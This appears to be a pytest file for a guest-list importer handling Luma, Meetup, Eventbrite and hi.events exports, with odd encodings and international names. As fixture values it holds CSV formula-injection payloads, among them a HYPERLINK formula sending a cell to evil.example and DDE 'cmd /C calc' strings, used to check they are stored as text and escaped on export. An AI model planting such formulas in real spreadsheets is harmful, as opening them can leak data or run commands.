"""Each platform's real-looking export, imported into an event: people, answers, needs, lines.

The files are the parser's fixtures (tests/data/guestlists): non-ASCII names, BOM, cp1252,
UTF-16, semicolons, quoted newlines and hostile formulas.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest

from app.domain.enums import RsvpResponse, RsvpSource
from app.services.container import Services
from app.services.guest_import_dto import ImportRequest, ImportResult
from app.services.guestlists import GuestListFormat, load_guest_list
from app.services.rsvp_dto import RsvpRow

DATA = Path(__file__).resolve().parents[2] / "data" / "guestlists"
GOING, MAYBE, DECLINED = RsvpResponse.GOING, RsvpResponse.MAYBE, RsvpResponse.DECLINED
WAITLISTED, INVITED = RsvpResponse.WAITLISTED, RsvpResponse.INVITED


def import_file(
    services: Services, event: int, name: str, fmt: GuestListFormat | None = None
) -> ImportResult:
    zone = services.guest_import.event_timezone(event)
    preview = load_guest_list(DATA / name, format=fmt, timezone=zone)
    return services.guest_import.run(ImportRequest(event, preview))


def guests(services: Services, event: int) -> dict[str, RsvpRow]:
    return {r.display_name: r for r in services.rsvps.guest_rows(event)}


def test_luma_old_export(services: Services, make_event: Callable[..., int]) -> None:
    event = make_event()
    result = import_file(services, event, "luma_old_api_id.csv")
    assert (result.imported, result.updated, result.unchanged) == (8, 0, 0)
    assert [(r.line, r.reason) for r in result.rejected] == [
        (10, "“oleg(at)example.ru” is not a valid e-mail address"),
        (11, "it has no name"),
    ]
    rows = guests(services, event)
    assert rows["Jürgen Groß"].response is GOING
    assert rows["Jürgen Groß"].checked_in_at is not None
    assert rows["Jürgen Groß"].source is RsvpSource.LUMA
    assert rows["张伟"].email == "wei.zhang@example.cn"
    # Line 9 repeats Σοφία with another spelling of her address: one guest, the later answer.
    assert rows["Σοφία Παπαδοπούλου"].response is GOING
    assert rows["Олег Иванов"].response is DECLINED
    assert rows["Zoë O'Brien-Smythe"].response is WAITLISTED
    assert rows["Zoë O'Brien-Smythe"].waitlisted_at is not None
    assert rows["Maria José de la Cruz Hernández"].response is INVITED
    hostile = '=HYPERLINK("https://evil.example/?q="&A1,"Claim your prize")'
    assert rows[hostile].response is GOING  # stored as text, never evaluated
    assert all(r.checkin_code for r in rows.values())


def test_luma_new_export_with_custom_questions(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "luma_new_guest_id.csv")
    assert result.imported == 5
    assert [r.line for r in result.rejected] == [5, 10, 12]
    rows = guests(services, event)
    assert rows["佐藤花子"].dietary == "ベジタリアン"
    assert rows["佐藤花子"].checked_in_at is not None
    assert rows["Thị Minh Khai Nguyễn"].accessibility == "wheelchair access"
    assert rows["דנה כהן"].response is INVITED
    assert rows["דנה כהן"].dietary == "kosher"
    assert rows["김민준"].dietary == "peanuts"
    report = services.rsvps.dietary_report(event)
    assert {n.label: n.names for n in report.summary.needs} == {
        "ベジタリアン": ("佐藤花子",),
        "peanuts": ("김민준",),
        "halal": ("Thị Minh Khai Nguyễn",),
    }


def test_meetup_rsvps_with_guests_and_user_ids(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "meetup_rsvps.csv")
    assert result.imported == 6
    assert [r.line for r in result.rejected] == [6, 7]
    rows = guests(services, event)
    assert (rows["Ngozi Okonjo-Iweala"].guests, rows["Ngozi Okonjo-Iweala"].email) == (2, "")
    assert rows["Siddharth Ramaswamy Venkataraman"].response is WAITLISTED
    assert rows["Hubert Blaine Wolfeschlegelsteinhausenbergerdorff"].response is DECLINED
    assert rows["+cmd|' /C calc'!A0"].source is RsvpSource.MEETUP
    assert services.rsvps.counts(event).going == 3 + 1 + 1 + 1  # Ngozi +2, formula, Madonna, Kofi


def test_meetup_attendance_marks_who_came(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "meetup_rsvps_attendance.csv")
    assert (result.imported, [r.line for r in result.rejected]) == (4, [7])
    rows = guests(services, event)
    assert rows["Ngozi Okonjo-Iweala"].checked_in_at is not None
    assert rows["Olga Ivanova"].checked_in_at is None
    # Said no, came anyway: she was there, so she counts as going.
    assert rows["Aiko Tanaka"].response is GOING
    assert rows["Aiko Tanaka"].checked_in_at is not None
    history = services.rsvps.history(rows["Olga Ivanova"].id)
    assert "note: Said she'd be late,\nthen didn't show" in history[0].detail


def test_meetup_tab_separated_xls(services: Services, make_event: Callable[..., int]) -> None:
    event = make_event()
    result = import_file(services, event, "meetup_rsvps_tab.xls")
    assert result.imported == 3
    rows = guests(services, event)
    assert rows["Åsa Lindqvist"].guests == 3
    assert rows["Mikko Virtanen"].response is DECLINED


@pytest.mark.parametrize("name", ["eventbrite_us_bom.csv", "eventbrite_us_unicode.txt"])
def test_eventbrite_us_bom_and_utf16(
    services: Services, make_event: Callable[..., int], name: str
) -> None:
    event = make_event()
    result = import_file(services, event, name)
    assert (result.imported, result.rejected) == (7, ())
    rows = guests(services, event)
    assert rows["Zoë O'Brien-Smythe"].dietary == "Vegan; Tree nuts"
    assert rows["Zoë O'Brien-Smythe"].organization == "Craic, Ltd."
    hubert = rows["Hubert Blaine Wolfeschlegelsteinhausenbergerdorff"]
    assert (hubert.response, hubert.accessibility) == (GOING, "Wheelchair user")
    assert hubert.checked_in_at is not None
    # Refunded, transferred and deleted tickets are not coming.
    for who in ("Ngozi Okonjo-Iweala", "Kofi Mensah", "Ama Owusu"):
        assert rows[who].response is DECLINED
    assert rows["Eve Hacker"].organization == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["Ana Lima 🎉"].response is GOING


def test_eventbrite_uk_cp1252_semicolons(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "eventbrite_uk_cp1252_semicolon.csv")
    assert result.imported == 3
    assert [(r.line, r.reason) for r in result.rejected] == [
        (4, "“francois@example” is not a valid e-mail address")
    ]
    rows = guests(services, event)
    assert rows["Siobhán Ní Bhriain"].organization == "Café Crème Ltd"
    assert rows["Siobhán Ní Bhriain"].dietary == "Végétarien"
    assert rows["Jürgen Groß"].checked_in_at is not None


def test_hievents_statuses(services: Services, make_event: Callable[..., int]) -> None:
    event = make_event()
    result = import_file(services, event, "hievents_attendees.csv")
    assert result.imported == 6
    rows = guests(services, event)
    assert rows["Siobhán Ní Bhriain"].checked_in_at is not None
    assert rows["Olusegun Adeyemi"].response is DECLINED
    assert rows["Mei Lin"].response is RsvpResponse.PENDING_APPROVAL
    assert rows["Hamid Karimi"].response is GOING
    assert rows["Hamid Karimi"].source is RsvpSource.HIEVENTS


def test_handmade_german_list_and_a_forced_format(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "handmade_de_semicolon.csv", GuestListFormat.GENERIC)
    assert result.imported == 6
    assert [r.line for r in result.rejected] == [10]
    rows = guests(services, event)
    assert (rows["Jürgen Groß"].guests, rows["Jürgen Groß"].dietary) == (1, "vegetarisch")
    assert rows["Jürgen Groß"].organization == "Müller & Söhne GmbH"
    assert rows["Zoë O'Brien-Smythe"].response is MAYBE
    assert rows["Олег Иванов"].response is WAITLISTED
    assert rows["Hans Meier"].response is INVITED
    assert rows["=1+1 Formel"].source is RsvpSource.SPREADSHEET


def test_handmade_chinese_list_keeps_name_order(
    services: Services, make_event: Callable[..., int]
) -> None:
    event = make_event()
    result = import_file(services, event, "handmade_zh.csv")
    assert result.imported == 4
    assert [r.line for r in result.rejected] == [6, 7]
    rows = guests(services, event)
    assert set(rows) == {"张伟", "佐藤花子", "김민준", "Wei Zhang"}
    assert rows["张伟"].guests == 1
    person = services.people.get(rows["张伟"].person_id)
    assert (person.family_name, person.given_name) == ("张", "伟")


def test_exported_guest_list_neutralizes_formulas(
    services: Services, make_event: Callable[..., int], tmp_path: Path
) -> None:
    event = make_event()
    import_file(services, event, "luma_old_api_id.csv")
    import_file(services, event, "hievents_attendees.csv")
    target = tmp_path / "guests.csv"
    written = services.rsvps.export_guest_list(event, target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.reader(stream))
    assert len(lines) == written + 1
    names = {line[0] for line in lines[1:]}
    assert '\'=HYPERLINK("https://evil.example/?q="&A1,"Claim your prize")' in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 Attacker" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
